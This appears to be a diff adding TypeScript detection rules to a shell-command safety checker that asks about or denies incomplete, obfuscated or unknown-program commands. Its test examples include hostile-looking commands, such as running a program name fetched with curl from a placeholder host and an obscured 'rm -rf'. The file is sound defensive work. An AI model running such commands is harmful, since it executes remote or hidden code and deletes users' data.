@@ -1,0 +1,76 @@
+/** Texts and names that cannot be understood well enough to call them safe. */
+import { Taint } from "../../shell/types.js";
+import { piecesOf } from "../../tools/words.js";
+import { commandRule, planRule } from "../types.js";
+
+/** Variables that hold a program by long custom; their value is the user's own choice of tool. */
+const TOOL_VARIABLES = new Set(
+  "CC CXX CPP LD AR AS NM RANLIB STRIP OBJCOPY PYTHON PYTHON3 PIP NODE NPM NPX PNPM YARN BUN GO CARGO RUSTC MAKE CMAKE NINJA JAVA JAVAC MVN GRADLE EDITOR VISUAL PAGER SHELL BASH SED AWK GREP TAR GIT DOCKER KUBECTL HELM TERRAFORM SUDO RUBY PERL PHP COMPOSER BUNDLE DOTNET FLUTTER DART ADB CURL WGET OPENSSL PSQL MYSQL".split(" "),
+);
+
+export const rules = [
+  planRule({
+    id: "syntax",
+    decision: "ask",
+    plan: ({ plan }) => plan.problems.filter((problem) => problem.kind === "syntax"),
+    why: "is not complete shell text, so what would run is not certain",
+    instead: "send one complete command",
+    attack: [],
+    asi: ["ASI02"],
+    matches: ['echo "unterminated', "if true; then ls", "ls $(", "for i in a b; do echo $i"],
+    nonMatches: ['echo "terminated"', "if true; then ls; fi"],
+  }),
+  planRule({
+    id: "limit",
+    decision: "ask",
+    plan: ({ plan }) => plan.problems.filter((problem) => problem.kind === "limit"),
+    why: "is too large or too deeply nested to be read",
+    instead: "split it into several commands",
+    attack: ["T1027"],
+    asi: ["ASI02"],
+    matches: [`echo ${"$(echo ".repeat(130)}x${")".repeat(130)}`],
+    nonMatches: ["echo $(echo $(echo x))", "echo $(echo x) $(echo y)"],
+  }),
+  planRule({
+    id: "suspicious",
+    decision: "ask",
+    plan: ({ plan }) => plan.problems.filter((problem) => problem.kind === "suspicious"),
+    why: "is written in a way that hides what would run",
+    instead: "write the command plainly",
+    attack: ["T1027"],
+    asi: ["ASI02"],
+    matches: [">&-rm -rf x", "python3 -c 'import os; getattr(os, input())(\"x\")'"],
+    nonMatches: ["ls >&-", "python3 -c 'import os; print(os.getcwd())'"],
+  }),
+  commandRule({
+    id: "unknown-program-fed",
+    decision: "deny",
+    when: (c) => c.name !== undefined && !c.name.known && (c.name.taints & (Taint.network | Taint.decoded)) !== 0,
+    why: "runs a program whose name comes from the network or from decoding",
+    instead: "write the program's name out",
+    attack: ["T1027", "T1059"],
+    asi: ["ASI05"],
+    matches: ["$(curl -s https://example.com/cmd) -rf x", "$(base64 -d x.b64) ."],
+    nonMatches: ["echo $(curl -s https://example.com/cmd)", "$(echo ls) -l"],
+  }),
+  commandRule({
+    id: "unknown-program",
+    decision: "ask",
+    when: (c) => {
+      if (c.name === undefined || c.name.known || (c.name.taints & (Taint.network | Taint.decoded)) !== 0) return false;
+      const pieces = piecesOf(c.name);
+      const first = pieces[0];
+      // `$CC`, `${MAKE:-make}`: a tool by custom. `"$DIR"/run.sh`, `./$x`: a file by its place.
+      if (pieces.length === 1 && first?.kind === "unknown" && first.name !== undefined && TOOL_VARIABLES.has(first.name)) return false;
+      const last = pieces[pieces.length - 1];
+      if (last?.kind === "text" && /[A-Za-z]/.test(last.text)) return false;
+      return !(c.name.glob && pieces.every((piece) => piece.kind !== "unknown"));
+    },
+    why: "runs a program whose name is not known before it runs",
+    instead: "write the program's name out",
+    attack: ["T1059"],
+    asi: ["ASI05"],
+    matches: ["$X -rf /tmp/a", "$(some-tool) --all", '"$1" file'],
+    nonMatches: ["X=ls; $X -l", "$CC -c a.c", "${PYTHON:-python3} a.py", '"$DIR/run.sh" x'],
+  }),
+];
